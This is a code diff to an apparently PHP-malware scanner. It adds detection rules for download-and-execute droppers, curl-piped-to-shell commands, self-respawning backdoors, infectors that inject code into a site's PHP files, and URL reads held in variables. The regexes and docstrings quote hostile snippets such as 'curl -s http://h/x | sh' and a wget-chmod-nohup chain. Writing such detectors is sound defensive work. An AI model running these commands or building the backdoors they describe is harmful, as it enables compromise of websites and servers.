@@ -7,11 +7,13 @@ from __future__ import annotations
 import itertools
 import re
 
+from spamtrace.scanner import fold
 from spamtrace.scanner.context import (
     EXEC_NAMES_B,
     FETCH_LITERAL,
     INCLUDE_LIT,
     INCLUDE_VAR,
+    NAME_P,
     PLACEHOLDER,
     SWAP_CALLS,
     TAIL_RHS,
@@ -83,14 +85,52 @@ def _downloads(ctx: Ctx, expr: bytes) -> bool:
     texts = [expr]
     v = VAR.fullmatch(expr.strip().lstrip(b"@"))
     if v is not None:
-        texts = [am.group(1) for _, am in var_assigns(ctx.code, v.group(1), TAIL_RHS, 10)]
+        sets = var_assigns(ctx.code, v.group(1), TAIL_RHS, 10)
+        texts = [am.group(1) for _, am in sets]
+        # the whole statement: a download in a branch of ?: or inside a closure called there
+        texts += [_statement(ctx.code, am.start(1)) for _, am in sets[:5]]
     for text in texts:
         for m in FETCH_LITERAL.finditer(text):
             if m.group(1) is None or web_address(ctx, m):
                 return True  # curl_exec: a download whatever the address
-        if _fetcher_call(ctx, text):
+        if _fetcher_call(ctx, text) or _url_var_read(ctx, text):
             return True
     return False
+
+
+# file_get_contents($u): a read of a variable's path or address
+_READ_VAR = re.compile(
+    rb"(?<![\w$>:])(?:file_get_contents|fopen|file)\s*\(\s*@?\s*\$(" + NAME_P + rb")\s*[,)]"
+)
+_URL_SCHEMES = (b"http://", b"https://", b"ftp://")
+
+
+def _url_var_read(ctx: Ctx, text: bytes) -> bool:
+    """``text`` reads a variable whose value the constant folder gives as a web address
+    (``$u = 'https://paste.example/raw/' . 'Xk3'; ... file_get_contents($u)``)."""
+    for m in itertools.islice(_READ_VAR.finditer(text), 5):
+        held = fold.Env(ctx.code, ctx.lx, ctx.cache).get(m.group(1), len(ctx.code))
+        if held is not None and held[0].strip().lower().startswith(_URL_SCHEMES):
+            return True
+    return False
+
+
+def _statement(code: bytes, start: int, limit: int = 1500) -> bytes:
+    """The text from ``start`` to the end of its statement: the first ";" outside
+    parentheses and braces (a closure's body is part of it), at most ``limit`` bytes."""
+    depth = 0
+    end = min(len(code), start + limit)
+    for i in range(start, end):
+        c = code[i]
+        if c in (40, 91, 123):
+            depth += 1
+        elif c in (41, 93, 125):
+            depth -= 1
+            if depth < 0:
+                return code[start:i]
+        elif c == 59 and depth == 0:
+            return code[start:i]
+    return code[start:end]
 
 
 # a call with a literal first argument: name(<literal>
@@ -191,7 +231,13 @@ def _remote_php_write(ctx: Ctx, rule: Rule) -> Hit | None:
         if len(parts) < 2:
             continue
         is_copy = ctx.code.startswith(b"copy", start)
-        dest = [value(int(i)) for i in PLACEHOLDER.findall(parts[1 if is_copy else 0])]
+        target = parts[1 if is_copy else 0]
+        dest = [value(int(i)) for i in PLACEHOLDER.findall(target)]
+        tv = VAR.fullmatch(target.strip().lstrip(b"@"))
+        if not dest and tv is not None:  # $dst = $root . '/uploads/.cache.php'
+            sets = var_assigns(ctx.code[:start], tv.group(1), TAIL_RHS, 5)
+            if sets:
+                dest = [value(int(i)) for i in PLACEHOLDER.findall(sets[-1][1].group(1))]
         if not dest or _PHP_PATH.search(dest[-1].strip()) is None:
             continue  # the path does not end with a PHP extension given as a literal
         if is_copy:
@@ -371,7 +417,30 @@ def _php_var(ctx: Ctx, dest: bytes, start: int) -> bool:
         rb"foreach\s*\(([^;{]{1,300}?)\s+as\s+(?:\$\w+\s*=>\s*)?\$" + v.group(1) + rb"\b"
     )
     texts += [m.group(1) for m in itertools.islice(loop.finditer(code), 5)]
-    return any(_PHP_NAME.search(_norm(ctx, t).lower()) is not None for t in texts)
+    if any(_PHP_NAME.search(_norm(ctx, t).lower()) is not None for t in texts):
+        return True
+    # built from a name the code compares with a PHP file's (``$p = $d . '/' . $f;`` after
+    # ``if ($f == 'index.php')``, ``substr($f, -4) === '.php'``)
+    names = {v.group(1)} | {n for t in texts for n in VAR.findall(t)[:4]}
+    return any(_php_compared(ctx, n) for n in sorted(names)[:6])
+
+
+def _php_compared(ctx: Ctx, name: bytes) -> bool:
+    """``$name`` (or a piece of it: substr, basename, pathinfo) is compared with a literal
+    that names a PHP file."""
+    var = (
+        rb"(?:(?:substr|basename|pathinfo|strtolower)\s*\(\s*)?\$"
+        + re.escape(name)
+        + rb"\b[^;{}=!<>]{0,30}"
+    )
+    rx = re.compile(
+        var + rb"[!=]==?\s*\x01(\d+)\x01|\x01(\d+)\x01\s*[!=]==?\s*" + var
+    )
+    for m in itertools.islice(rx.finditer(ctx.code), 10):
+        lit = m.group(1) or m.group(2)
+        if _PHP_NAME.search(ctx.lx.value(int(lit)).lower()) is not None:
+            return True
+    return False
 
 
 @feature("write_backdate")
@@ -853,4 +922,173 @@ def _dropper_write_decoded(ctx: Ctx, rule: Rule) -> Hit | None:
             if _appended_to_data_file(ctx, m.start(), call):
                 continue
         return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
+    return None
+
+
+# a shell line that downloads a program, makes it executable and starts it: wget/curl, then
+# chmod +x (or a mode with an execute bit), then the program run (nohup, ./name, an
+# interpreter, or sent to the background)
+_SHELL_DOWNLOAD_RUN = re.compile(
+    rb"(?:wget|curl|lwp-download|fetch)\s[^\x00]{0,400}?chmod\s+(?:[ugoa]*\+x|0?[0-7]?[1357][0-7]{2})"
+    rb"[^\x00]{0,300}?(?:nohup\b|\./|&\s*$|&\s*[;\x00])|"
+    # or piped straight into a shell or an interpreter: curl -s http://h/x | sh
+    rb"(?:wget|curl)\s[^\x00|;&]{0,300}?(?:https?|ftp)://[^\x00|;&]{0,300}\|\s*(?:sudo\s+)?"
+    rb"(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b|(?:wget|curl)\s[^\x00|;&]{0,300}?(?:https?|ftp)://"
+    rb"[^\x00|;&]{0,300}\|\s*(?:/usr/bin/)?(?:perl|python[23]?)\b"
+)
+# a mode with an execute bit: 0755, 0700, 0777, 493 (decimal 0755), 511 (0777)
+_EXEC_MODE = re.compile(rb"^(?:0o?[0-7]?[1357][0-7]{2}|0o?[0-7]?[0-7][1357][0-7]|493|511|448|509)$")
+# started to outlive the request: nohup, or a command sent to the background
+_BACKGROUND = re.compile(rb"\bnohup\b|&\s*$|&\s*[;)]|\bsetsid\b|\bdisown\b")
+# a temporary or hidden place for a program
+_HIDDEN_PLACE = re.compile(rb"^/(?:tmp|var/tmp|dev/shm)\b|/\.[\w-]|sys_get_temp_dir|tempnam")
+_EXEC_AND_PCNTL = (*EXEC_NAMES_B, b"pcntl_exec")
+
+
+@feature("download_run")
+def _download_run(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A program downloaded (or decoded from the script's own data), written to a file, made
+    executable with chmod and started, in the background (nohup, &) or from a temporary or
+    hidden place (/tmp, /dev/shm, a dot-name), or in place of PHP (pcntl_exec): a
+    cryptominer or an IRC/DDoS bot launched from a hacked site. Also the same as one shell
+    line (wget ... ; chmod +x ...; nohup ./...). An installer that fetches a tool runs it in
+    the foreground, in its project, with its output read. A download piped straight into a
+    shell or Perl/Python (``curl -s http://h/x | sh``) counts too (not ``| php``: Composer's
+    installer is fetched so)."""
+    if not called_any(ctx, _EXEC_AND_PCNTL):
+        return None
+    text = string_text(ctx)
+    m = _SHELL_DOWNLOAD_RUN.search(text)
+    if m is not None:
+        at = string_at(ctx, m.start())
+        return Hit(ctx.line_of_string(max(0, at)), excerpt(m.group(0)))
+    value = ctx.lx.value
+    execs = calls_to(ctx, _EXEC_AND_PCNTL, 20)
+    for start, args in calls_to(ctx, (b"chmod",), 20):
+        parts = top_args(args)
+        if len(parts) < 2 or _EXEC_MODE.match(parts[1].strip()) is None:
+            continue
+        dest = _norm(ctx, parts[0])
+        written = [
+            (wstart, top_args(wargs))
+            for wstart, wargs in calls_to(ctx, (b"file_put_contents",), 50)
+            if wstart < start and _norm(ctx, top_args(wargs)[0]) == dest
+        ]
+        content = [p[1] for _, p in written if len(p) >= 2]
+        if not any(_downloads(ctx, expression(c)) or _decoded(ctx, expression(c)) for c in content):
+            continue
+        # the names the program's path is made of: $bin, and $d of $bin = $d . '/x'
+        names = set(VAR.findall(parts[0]))
+        for i in PLACEHOLDER.findall(parts[0]):
+            names.update(VAR.findall(value(int(i)).lower()))
+        for name in list(names)[:4]:
+            for _, am in var_assigns(ctx.code[:start], name, TAIL_RHS, 3):
+                names.update(VAR.findall(am.group(1)))
+        held = PLACEHOLDER.findall(_path_text(ctx, parts[0]))
+        place = b" ".join(value(int(i)).lower() for i in held)
+        for estart, eargs in execs:
+            if estart < start:
+                continue
+            cmd = ctx.code[estart : estart + 12]
+            lits = b" ".join(value(int(i)).lower() for i in PLACEHOLDER.findall(eargs))
+            shown = eargs + b" " + lits
+            if not any(re.search(rb"\$" + re.escape(n) + rb"\b", shown) for n in names):
+                continue
+            if (
+                cmd.startswith(b"pcntl_exec")
+                or _BACKGROUND.search(shown) is not None
+                or _HIDDEN_PLACE.search(place) is not None
+            ):
+                return Hit(ctx.line_of_code(estart), ctx.excerpt_code(estart, estart + 100))
+    return None
+
+
+def _path_text(ctx: Ctx, expr: bytes) -> bytes:
+    """A path expression and what its variables were set to (one level)."""
+    out = [expr]
+    for var in VAR.findall(expr)[:4]:
+        out += [am.group(1) for _, am in var_assigns(ctx.code, var, TAIL_RHS, 3)]
+    return b" ".join(out)
+
+
+# a test that a file is gone: !file_exists($p), !is_file($p)
+_GONE = re.compile(rb"!\s*@?\s*(?:file_exists|is_file)\s*\(([^()]{1,200}?)\)")
+
+
+@feature("respawn_loop")
+def _respawn_loop(ctx: Ctx, rule: Rule) -> Hit | None:
+    """An endless loop, in a request told to outlive its visitor (ignore_user_abort), that
+    sleeps and writes a file again whenever it is gone (``while (true) { if
+    (!file_exists($p)) file_put_contents($p, $code); sleep(5); }``): a backdoor that comes
+    back as soon as the site owner deletes it. A queue worker runs for a bounded time and
+    writes what its jobs give, not a file because it was deleted."""
+    if ctx.first(b"ignore_user_abort") < 0:
+        return None
+    code = ctx.code
+    for m in itertools.islice(prefiltered_finditer(_FOREVER, code, ctx.first), 10):
+        brace = code.find(b"{", m.end(), m.end() + 5)
+        if brace < 0:
+            continue
+        body = braced(code, brace)
+        if body.find(b"sleep") < 0:
+            continue
+        gone = {_norm(ctx, g.group(1)) for g in _GONE.finditer(body)}
+        if not gone:
+            continue
+        for wstart, wargs in find_calls(body, (b"file_put_contents", b"copy", b"fopen"), 20):
+            parts = top_args(wargs)
+            target = parts[1] if body.startswith(b"copy", wstart) and len(parts) > 1 else parts[0]
+            if _norm(ctx, target) in gone:
+                at = m.start()
+                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
+    return None
+
+
+_WALKS = (b"recursivedirectoryiterator", b"scandir", b"glob", b"readdir", b"directoryiterator")
+_OWN_READ = re.compile(rb"file_get_contents\s*\(\s*@?\s*([^;]{1,200}?)\s*\)")
+
+
+def _expr_texts(ctx: Ctx, expr: bytes, before: int, depth: int = 2) -> list[bytes]:
+    """``expr`` and, ``depth`` levels down, what its variables were set to before
+    ``before`` (``$s = preg_replace(..., $code, $s)`` and ``$code = ...``)."""
+    texts = [expr]
+    todo = [expr]
+    for _ in range(depth):
+        nxt: list[bytes] = []
+        for t in todo:
+            for var in VAR.findall(t)[:4]:
+                nxt += [am.group(1) for _, am in var_assigns(ctx.code[:before], var, TAIL_RHS, 4)]
+        texts += nxt
+        todo = nxt
+    return texts
+
+
+@feature("php_infector")
+def _php_infector(ctx: Ctx, rule: Rule) -> Hit | None:
+    """PHP files found by a walk of the folders (RecursiveDirectoryIterator, scandir,
+    glob) written back with their own content kept and code put in (``file_put_contents($f,
+    $code . file_get_contents($f))``, a preg_replace of the open tag), where the code is
+    decoded (base64 of the request, of the script's literals) or a literal that runs
+    something (``<?php @include ...``): every script of the site, or of every account, made
+    to load the operator's code. A tool that adds a licence header puts in a comment."""
+    if not has_any(ctx, _WALKS):
+        return None
+    for start, args in calls_to(ctx, (b"file_put_contents",), 50):
+        parts = top_args(args)
+        if len(parts) < 2:
+            continue
+        dest = _norm(ctx, parts[0])
+        if not (_php_var(ctx, parts[0].strip(), start) or _PHP_NAME.search(dest) is not None):
+            continue
+        texts = _expr_texts(ctx, expression(parts[1]), start)
+        own = any(
+            _norm(ctx, r.group(1)) == dest for t in texts for r in _OWN_READ.finditer(t)
+        )
+        if not own:
+            continue
+        for t in texts:
+            lits = b"".join(ctx.lx.value(int(i)) for i in PLACEHOLDER.findall(t))
+            runs = _PHP_OPEN.search(lits) is not None and _RUNS.search(lits) is not None
+            if runs or _DECODER_CALL.search(t) is not None:
+                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
     return None
